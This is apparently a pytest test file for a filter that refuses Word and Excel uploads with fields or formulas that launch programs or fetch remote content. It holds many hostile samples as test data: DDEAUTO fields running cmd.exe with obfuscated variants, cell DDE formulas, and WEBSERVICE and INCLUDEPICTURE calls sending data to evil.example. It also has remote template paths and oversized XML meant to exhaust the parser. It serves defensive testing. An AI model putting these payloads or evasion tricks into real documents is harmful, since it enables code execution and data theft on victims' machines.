"""Word and Excel files that call another program or fetch something when they are opened are not taken in."""

import io
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import openpyxl
import pytest
from docx.oxml import parse_xml
from openpyxl.workbook.defined_name import DefinedName

from engine.errors import Incomplete
from engine.file_kinds import office_parts, sniff
from tests.engine.made_files import linked, saved

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)
DDE = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'
TAB = "<w:r><w:tab/></w:r>"


def code(text: str, *, kept: bool = True, element: str = "w:instrText") -> str:
    space = ' xml:space="preserve"' if kept else ""
    return f"<w:r><{element}{space}>{text.replace('&', '&amp;')}</{element}></w:r>"


def shown(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def field(*codes: str, result: str = "") -> str:
    """A field whose codes are plain text or runs already."""
    runs = "".join(piece if piece.startswith("<") else code(piece) for piece in codes)
    return BEGIN + runs + (SEPARATE + shown(result) if result else "") + END


def simple(instruction: str) -> str:
    return f'<w:fldSimple w:instr="{instruction}">{shown("?")}</w:fldSimple>'


def word(*paragraphs: str) -> bytes:
    document = docx.Document()
    for at, runs in enumerate(paragraphs):
        document.element.body.insert(at, parse_xml(f"<w:p {W}>{runs}</w:p>"))
    return saved(document.save)


def workbook(*cells: str, name: str = "", title: str = "Sheet") -> bytes:
    book = openpyxl.Workbook()
    book.worksheets[0].title = title
    for row, cell in enumerate(cells, start=1):
        book.worksheets[0].cell(row, 1, cell)
    if name:
        book.defined_names["Nguồn"] = DefinedName("Nguồn", attr_text=name)
    return saved(book.save)


def with_part(package: bytes, name: str, part: str | bytes) -> bytes:
    """A package with this part, new or in place of its own."""
    out, given = io.BytesIO(), zipfile.ZipFile(io.BytesIO(package))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in set(given.namelist()) - {name}:
            new.writestr(entry, given.read(entry))
        new.writestr(name, part)
    return out.getvalue()


def body(inner: str) -> str:
    return f"<w:document {W}><w:body><w:p>{inner}</w:p></w:body></w:document>"


def taken(tmp_path: Path, content: bytes, suffix: str) -> str:
    path = tmp_path / "tệp"
    path.write_bytes(content)
    return sniff("tệp" + suffix, content[:16], path)


def refusal(tmp_path: Path, content: bytes, suffix: str) -> str:
    with pytest.raises(Incomplete) as refused:
        taken(tmp_path, content, suffix)
    return refused.value.fields["file"]


MADE: dict[str, tuple[str, Callable[..., bytes]]] = {
    "field": (".docx", word),
    "template": (".docx", lambda target: linked("attachedTemplate", target)),
    "document part": (".docx", lambda name, part: with_part(word(), name, part)),
    "formula": (".xlsx", lambda formula: workbook("a", "=" + formula)),
    "name": (".xlsx", lambda formula: workbook(name=formula)),
    "rule": (".xlsx", lambda text: with_part(workbook(), "a", f"<a><x:f><![CDATA[{text}]]></x:f></a>")),
    "cells": (".xlsx", lambda *cells: workbook(*cells, name="'Khối A | B'!$A$1", title="Khối A | B")),
    "workbook part": (".xlsx", lambda name, part: with_part(workbook(), name, part)),
}
CALLING_FIELDS = [
    field(' dde Excel "a.xlsx" R1C1 ', result="Số liệu"),
    field("DDEAUTO", shown(" cmd")),
    field("DDE", shown("x"), "AUTO cmd"),
    field("DD", code("x", element="w:delInstrText"), "EAUTO cmd"),
    field("DD", f"<w:del>{code('x')}</w:del>", "EAUTO cmd"),
    field(code(DDE, element="w:delInstrText")),
    field(code("D ", kept=False), code("DEAUTO "), code("cmd")),
    field(code("D ", kept=False), "DEAUTO", TAB, "cmd"),
    field('SET a "DDEAUTO"'),
    field("“DDEAUTO” cmd"),
    field(field("QUOTE 68 68 69 65 85 84 79"), " cmd"),
    field("D", field("QUOTE 68"), "EAUTO cmd"),
    field("D", simple("QUOTE 68"), "EAUTO cmd"),
    field("PAGE", field(DDE)),
    field("PAGE", result="1") + code(DDE),
    BEGIN + code(DDE),
    simple("DDEAUTO cmd a"),
]
FETCHING_FIELDS = [
    field(r'INCLUDEPICTURE "http://evil.example/x.png?u=1&b" \d \* MERGEFORMATINET'),
    field(r'INCLUDEPICTURE \d "https://evil.example/x.png"'),
    field(code("INCL ", kept=False), code('UDEPICTURE "http://evil.example/x.png"')),
    field(r'INCLUDETEXT "\\\\evil.example\\a\\b.docx"'),
    field('INCLUDEPICTURE "', field("REF nguon"), '"'),
    field('IMPORT "file://evil.example/a.png"'),
    field(r'INCLUDE "\??\UNC\evil.example\a.docx"'),
    field(r'LINK Excel.Sheet.12 "http://evil.example/a.xlsx" "Sheet1!R1C1:R2C2" \a \r'),
    field(r'RD "\\\\evil.example\\a.docx" \f'),
    field(r'DATABASE \d "C:\\a.mdb" \c "DSN=x" \s "SELECT 1"'),
    simple("INCLUDEPICTURE http://evil.example/x.png"),
]
CALLING_PARTS = [
    ("word/header1.xml", body(field(DDE))),
    ("word/footnotes.xml", body(BEGIN + code("DDEAUTO") + "</w:p><w:p>" + code("cmd") + END)),
    ("word/comments.xml", body(f"<w:pict><w:txbxContent>{field(DDE)}</w:txbxContent></w:pict>")),
    ("khác/phần.dat", "\n " + body(field(DDE))),  # a part is what its relationship says, not its name
    ("word/a.xml", body(field(DDE)).encode("utf-16")),
    ("word/a.xml", body(field(DDE)).encode("utf-16-le")),
    ("word/a.xml", body(field(DDE)).replace("w:", "x:").replace(":w=", ":x=")),
    ("word/a.xml", body(field("&#68;<!-- -->DE<![CDATA[AUTO]]> cmd").replace("&amp;", "&"))),
]
FORMULAS = [
    "cmd|'/C calc'!A0",
    "'cmd'|'/C calc'!A0",
    "IF(TRUE,\"a|b\",cmd|'/C calc'!A0)",
    "'a\"'!A1+cmd|'/C calc'!A0+'a\"'!A1",  # the marks of a string within a sheet's name
    "T['[\"]&cmd|'/C calc'!A0&T['[\"]",  # and within a column's
    'WEBSERVICE("http://evil.example/?"&A1)',
    "1+webservice (A1)",
    "MAP(A1:A9,_xleta.WEBSERVICE)",
    '_xlfn.IMAGE("http://evil.example/x.png")',
    'RTD("a.b",,"c")',
    'DDE("soffice";"a";"b")',
]
LINKS = [
    ("externalLinks/a.xml", f'<externalLink {MAIN}><ddeLink ddeService="cmd"/></externalLink>', "Break Link"),
    ("externalLinks/a.xml", '<x:externalLink><x:oleLink progId="Package"/></x:externalLink>', "Break Link"),
    ("connections.xml", f'<connections {MAIN}><connection id="1"/></connections>', "Xóa kết nối"),
    ("queryTables/queryTable1.xml", f'<queryTable {MAIN} connectionId="1"/>', "Xóa kết nối"),
]
DEVICE_PATHS = [
    r"\??\UNC\evil.example\share\t.dotx",
    r"\\?\UNC\evil.example\share\t.dotx",
    r"\\.\UNC\evil.example\t.dotx",
    "/%3F%3F/UNC/evil.example/t.dotx",
    "file:///??/UNC/evil.example/t.dotx",
]


@pytest.mark.parametrize(
    ("kind", "given", "word_of_it"),
    [
        *(("field", (runs,), "trường tự gọi chương trình khác") for runs in CALLING_FIELDS),
        *(("field", (runs,), "ảnh hoặc số liệu từ máy khác") for runs in FETCHING_FIELDS),
        *(("document part", part, "trường tự gọi chương trình khác") for part in CALLING_PARTS),
        *((kind, (text,), "Paste Values") for text in FORMULAS for kind in ("formula", "name", "rule")),
        *(("workbook part", (f"xl/{name}", part), remedy) for name, part, remedy in LINKS),
        *(("template", (path,), "từ máy khác") for path in DEVICE_PATHS),
    ],
)
def test_what_calls_a_program_or_fetches_is_refused(
    tmp_path: Path, kind: str, given: tuple[str, ...], word_of_it: str
) -> None:
    suffix, make = MADE[kind]
    assert word_of_it in refusal(tmp_path, make(*given), suffix)


def test_a_part_under_a_picture_s_name_must_be_whole_like_any_other(tmp_path: Path) -> None:
    types = zipfile.ZipFile(io.BytesIO(word())).read("[Content_Types].xml").decode()
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    header = f'<Override PartName="/word/a.svg" ContentType="{kind}"/></Types>'
    package = with_part(word(), "[Content_Types].xml", types.replace("</Types>", header))
    assert "cấu trúc" in refusal(tmp_path, with_part(package, "word/a.svg", "<!DOCTYPE a><a/>"), ".docx")


HYPERLINK = ' HYPERLINK "https://bdt.example/van-ban/dde/2026" \\o "DDE" '
PAGE_OF = field(" PAGEREF _Toc1 \\h ", result="3")
UNENDED = BEGIN + shown("Trường không có kết thúc, rồi chữ DDE") + field("PAGE")
HONEST_FIELDS = [
    field(r' TOC \o "1-3" \h \z \u ', SEPARATE, field(HYPERLINK, SEPARATE, shown("Mở đầu"), PAGE_OF)),
    field(HYPERLINK, result="Công văn"),
    field(" PAGE ", result="1") + field("=", field("NUMPAGES"), " - 1"),
    field("IF", field("MERGEFIELD Giới"), ' = "Nam" "Ông" "Bà"', result="Ông"),
    field(" MERGEFIELD DDE ") + field(" REF DDE \\h ") + field(" SEQ DDE ") + simple(" PAGE "),
    field('ADDIN ZOTERO_ITEM CSL_CITATION {"title":"Dư lượng DDE trong đất"}', result="(1)"),
    field(r'INCLUDEPICTURE "C:\\Users\\a\\Ảnh tập thể.png" \* MERGEFORMAT \d'),
    field(r'INCLUDEPICTURE "cid:image001.png@01DC" \* MERGEFORMATINET'),
    field(r'INCLUDEPICTURE "/var/folders/9x/T/clip_image001.png" \* MERGEFORMATINET'),
    field(r'INCLUDEPICTURE "C:\\Ảnh\\', field("MERGEFIELD Mã"), '.jpg"'),
    field(r'LINK Excel.Sheet.12 "D:\\Thi đua\\Số liệu.xlsx" "Sheet1!R1C1:R9C4" \a \f 5 \h'),
    field(' DATE \\@ "dd/MM/yyyy HH:mm" ', result="24/11/2026"),
    shown("Trường DDE và DDEAUTO, INCLUDEPICTURE http://a.example bị cấm."),
    shown("Số dư") + END + field("PAGE"),
    field(code(" PAGE ", element="w:delInstrText")),
]
HONEST_PARTS = [
    ("document part", ("word/printerSettings1.bin", '<!DOCTYPE plist SYSTEM "a"><plist/>')),
    ("document part", ("word/media/a.svg", '<!DOCTYPE svg PUBLIC "a" "b"><svg/>')),
    ("document part", ("word/fonts/font1.odttf", b"<\x00\xff\x13")),
    ("workbook part", ("xl/drawings/vmlDrawing1.vml", "<xml><br></xml>")),
    ("workbook part", ("xl/connections.xml", f"<connections {MAIN}/>")),
    ("workbook part", ("customXml/item1.xml", "<a><connection/></a>")),
]
HONEST_CELLS = [
    "Máy DDE | WEBSERVICE(x)",
    "cmd|'/C calc'!A0",
    '=HYPERLINK("https://bdt.example/","Công văn")&SUM(B1:B9)',
    '=IF(A1="a|b","xem IMAGE(2)","RTD(1)")',
    "='Khối A | B'!B1+'Khối A | B'!B2",
    '=SUM(Bảng1[Nam|Nữ])+SUM(Bảng1[[#This Row],[A|B]])&"a|b"',
    "=INDEX(B:B,MATCH(\"x\",'[1]Số liệu'!A:A,0))",
    "=_xlfn.LET(_xlpm.image,_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1),_xlpm.image(2))",
    "=CALLS+SWORD(1)+MYIMAGE(2)",
]


@pytest.mark.parametrize(
    ("kind", "given"),
    [
        *(("field", (runs,)) for runs in [*HONEST_FIELDS, UNENDED, "".join(HONEST_FIELDS) + UNENDED]),
        *(("template", (path,)) for path in (r"C:\Mẫu\t.dotx", "file:///C:/t.dotx", "Mẫu%20b.dotx")),
        *HONEST_PARTS,
        ("cells", HONEST_CELLS),
    ],
)
def test_honest_files_are_kept(tmp_path: Path, kind: str, given: tuple[str, ...]) -> None:
    suffix, make = MADE[kind]
    assert taken(tmp_path, make(*given), suffix)


def long_document() -> bytes:
    run = f'<w:r w:rsidR="00A1"><w:rPr><w:sz w:val="28"/></w:rPr><w:t>{"Nhiệm vụ. " * 19}</w:t></w:r>'
    paragraph = f'<w:p w:rsidR="00A1"><w:pPr><w:jc w:val="both"/></w:pPr>{run}</w:p>'
    page = f"<w:p>{field(HYPERLINK, result='x') + PAGE_OF}</w:p>" + paragraph * 5
    part = body("</w:p>" + page * (20 * 2**20 // len(page.encode())) + "<w:p>")
    return with_part(word(), "word/document.xml", part)


def long_workbook() -> bytes:
    cells = '<c r="A1234" s="11" t="s"><v>123</v></c>' * 6 + '<c r="G1234"><f>SUM(A9:F9)*2</f><v>12</v></c>'
    row = f'<row r="1234" spans="1:7">{cells}</row>'
    part = f"<worksheet {MAIN}><sheetData>{row * (20 * 2**20 // len(row))}</sheetData></worksheet>"
    return with_part(workbook(), "xl/worksheets/sheet1.xml", part)


def bracketed_formula() -> bytes:
    return with_part(workbook(), "xl/a.xml", f"<a><f>{'[&apos;' * 500_000}|</f></a>")


@pytest.mark.parametrize("make", [long_document, long_workbook, bracketed_formula])
def test_a_file_of_20_mb_takes_a_second_or_two(tmp_path: Path, make: Callable[[], bytes]) -> None:
    content = make()
    before = time.thread_time()
    assert taken(tmp_path, content, ".docx" if make is long_document else ".xlsx")
    assert time.thread_time() - before < 4  # a busy machine's cores are slower


BUSY = {
    "broken": ("<w:document", "không phải"),
    "a DTD": ("<!DOCTYPE a><a/>", "cấu trúc"),
    "an unknown encoding": ('<?xml version="1.0" encoding="nobody-s"?><a/>', "không phải"),
    "elements within elements": ("<a>" * 200_000, "cấu trúc"),
    "elements": ("<a>" + "<b/>" * 2_000_000, "quá nhiều"),
    "a tag without end": ('<a c="' + "x" * (30 * 2**20), "quá nhiều"),
    "an instruction without end": (body(BEGIN + code("QUOTE ") + code("1 " * 2**20)), "quá nhiều"),
    "fields within fields": (body(BEGIN * 1500), "cấu trúc"),
    "nests": (body((BEGIN * 900 + code("QUOTE 1") + END * 900) * 200), "chương trình khác"),
}


@pytest.mark.parametrize(("part", "word_of_it"), BUSY.values(), ids=BUSY)
def test_a_broken_file_or_one_made_to_keep_us_busy_is_given_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, part: str, word_of_it: str
) -> None:
    monkeypatch.setattr(office_parts, "MOST_SECONDS", 0.2)
    content = with_part(word(), "word/document.xml", part)
    before = time.thread_time()
    assert word_of_it in refusal(tmp_path, content, ".docx")
    assert time.thread_time() - before < 1.5
